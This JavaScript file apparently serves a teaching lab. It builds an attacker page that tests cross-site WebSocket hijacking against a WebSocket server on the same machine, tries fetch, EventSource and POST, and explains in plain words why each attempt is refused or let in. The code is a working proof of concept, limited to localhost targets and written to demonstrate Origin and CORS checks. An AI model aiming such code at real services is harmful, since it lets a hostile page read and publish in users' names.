// The attacker's page: on an origin of its own, it tries to use a WebSocket server of which it knows the address. No
// token is stolen and nothing is guessed: a browser lets any page connect to any WebSocket, and only the server can say
// no, by the Origin that the browser puts into the handshake: RFC 6455, section 10.2.
//
//   attacker.html?target=ws://websocket.localhost:40004/websocket&page=http://localhost:8080
//
// target is the victim's address, page the origin of the page around this one, which is told how it went:
//
//   {type: "attack", origin, results: [{way, in, text, …}]}
//
// Both must be names of this machine.

const patience = 4000; // ms for each attempt

/** Returns the address as a URL, if it is one of this machine with one of these schemes. */
function local(address, ...schemes) {
  const url = URL.parse(address ?? "");
  if (!url || !schemes.includes(url.protocol)) return null;
  return /^(localhost|([a-z0-9-]+\.)+localhost|127\.0\.0\.1)$/.test(url.hostname) ? url : null;
}

/** Returns the victim's address for another path, by HTTP. */
function byHTTP(target, path) {
  const url = new URL(path, target);
  url.protocol = target.protocol === "wss:" ? "https:" : "http:";
  return url;
}

/** Opens the victim's WebSocket, reads what comes, and publishes. */
function tryWebSocket(target) {
  return new Promise((resolve) => {
    const socket = new WebSocket(target, "pushlab.v1");
    const events = [];
    let opened = false;
    let published = null;
    const timer = setTimeout(() => socket.close(), patience);
    socket.onopen = () => {
      opened = true;
      socket.send(JSON.stringify({ op: "publish", ref: "1", topic: "attack", data: `published by ${location.origin}` }));
    };
    socket.onmessage = ({ data }) => {
      const message = JSON.parse(data);
      if (message.op === "ack") published = message.id;
      else if (message.topic && !message.topic.startsWith("$")) events.push(message);
      // One's own event comes back as one that was read.
      if (published && events.length > 0) socket.close();
    };
    socket.onclose = ({ code }) => {
      clearTimeout(timer);
      if (!opened) {
        resolve({ in: false, code, text: `Refused by the check of the Origin. I am told no more than code ${code}, as if nobody \
were there, but the server was told where I am from: the browser put "Origin: ${location.origin}" into the handshake, \
and I cannot change that.` });
      } else if (published || events.length > 0) {
        resolve({ in: true, code, published, read: events.length, text: `I can read your events and publish in your name. \
The server did not look at the Origin of my handshake, and the browser leaves that to the server.` });
      } else {
        resolve({ in: true, code, published, read: 0, text: "The server let me in, but nothing came, and nothing was published." });
      }
    };
  });
}

/** Asks for events as a page asks for data. */
async function tryFetch(target) {
  try {
    const response = await fetch(byHTTP(target, "/longpoll?wait=0"), { signal: AbortSignal.timeout(patience) });
    return { in: true, text: `I can read the answer: status ${response.status}.` };
  } catch {
    return { in: false, text: "The request was made, but the browser does not show me the answer: it has no \
Access-Control-Allow-Origin for me (CORS)." };
  }
}

/** Opens an event stream. */
function tryEventSource(target) {
  return new Promise((resolve) => {
    const source = new EventSource(byHTTP(target, "/sse"));
    const end = (result) => {
      clearTimeout(timer);
      source.close();
      resolve(result);
    };
    const timer = setTimeout(() => end({ in: false, text: "Nothing came." }), patience);
    source.onopen = () => end({ in: true, text: "I can read your events." });
    source.onerror = () => end({ in: false, text: "The browser closed the stream for the same reason: CORS." });
  });
}

/** Publishes as a form would, without a look at the answer. */
async function tryPost(target) {
  try {
    const response = await fetch(byHTTP(target, "/publish?topic=attack"), {
      method: "POST", body: `posted by ${location.origin}`, signal: AbortSignal.timeout(patience),
    });
    return { in: response.ok, text: response.ok ? "I can publish in your name." : `Refused: status ${response.status}.` };
  } catch {
    return { in: false, text: "The request was made, and the answer is kept from me. That would not have stopped it: what did is \
that the server saw \"Sec-Fetch-Site: cross-site\" or my Origin, and answered 403, as you can see in the lane." };
  }
}

const attempts = [
  { way: "websocket", title: "Open your WebSocket", run: tryWebSocket },
  { way: "fetch", title: "Read by fetch", run: tryFetch },
  { way: "eventsource", title: "Read by EventSource", run: tryEventSource },
  { way: "post", title: "Publish by POST", run: tryPost },
];

function element(name, className, text) {
  const node = document.createElement(name);
  node.className = className;
  node.textContent = text;
  return node;
}

function show({ title, result }) {
  const item = element("li", result.in ? "in" : "out", "");
  item.append(element("strong", "", title), element("span", "outcome", result.in ? "I am in" : "kept out"), element("p", "", result.text));
  document.querySelector("#attempts").append(item);
}

async function attack(target, page) {
  const again = document.querySelector("#again");
  const verdict = document.querySelector("#verdict");
  again.disabled = true;
  document.querySelector("#attempts").replaceChildren();
  verdict.textContent = "Trying.";
  const results = [];
  for (const { way, title, run } of attempts) {
    const result = await run(target);
    show({ title, result });
    results.push({ way, ...result });
  }
  const broken = results.some((result) => result.in);
  verdict.textContent = broken
    ? "It worked. Every page that you visit could do this."
    : "I got nothing. The server refuses what comes from pages that it does not know.";
  verdict.className = broken ? "in" : "out";
  again.disabled = false;
  // Only the page that is meant gets it, whoever has this one in a frame.
  if (page && parent !== window) parent.postMessage({ type: "attack", origin: location.origin, results }, page.origin);
}

// The policy of this page lets in no style sheet but one made here.
const style = new CSSStyleSheet();
style.replaceSync(`
  :root { color-scheme: light dark; font: 15px/1.45 system-ui, sans-serif; }
  body { margin: 0; padding: 1rem; color: light-dark(#1f2328, #e6e8eb); background: light-dark(#fffaf5, #201a17); }
  .mark { margin: -1rem -1rem 1rem; padding: .4rem 1rem; color: light-dark(#5c2400, #ffd8bd); background: light-dark(#ffe3cf, #4a2511); font-size: .87em; }
  h1 { margin: 0 0 .3rem; font-size: 1.2rem; }
  p { margin: .3rem 0; }
  code { font-family: ui-monospace, monospace; overflow-wrap: anywhere; }
  #attempts { margin: .8rem 0; padding: 0; list-style: none; display: grid; gap: .5rem; }
  #attempts li { padding: .5rem .7rem; border: 1px solid light-dark(#d5c8bd, #4d423b); border-left-width: 5px; border-radius: 6px; }
  #attempts li.in { border-left-color: light-dark(#b3261e, #ff8a80); }
  #attempts li.out { border-left-color: light-dark(#1a7f37, #57c274); }
  .outcome { margin-left: .6rem; padding: .05rem .5rem; border: 1px solid; border-radius: 1rem; font-size: .8em; }
  .in .outcome, #verdict.in { color: light-dark(#a3211a, #ff9d94); }
  .out .outcome, #verdict.out { color: light-dark(#156a2e, #6bd089); }
  #verdict { font-weight: 600; }
  button { min-height: 32px; padding: .3rem .9rem; font: inherit; }
`);
document.adoptedStyleSheets = [style];

document.querySelector("#origin").textContent = location.origin;
const query = new URLSearchParams(location.search);
const target = local(query.get("target"), "ws:", "wss:");
const page = local(query.get("page"), "http:", "https:");
if (target) {
  document.querySelector("#again").onclick = () => attack(target, page);
  attack(target, page);
} else {
  document.querySelector("#verdict").textContent = "There is nobody to attack: target must be a WebSocket of this machine, such as ws://localhost:8080/websocket.";
  document.querySelector("#again").hidden = true;
}
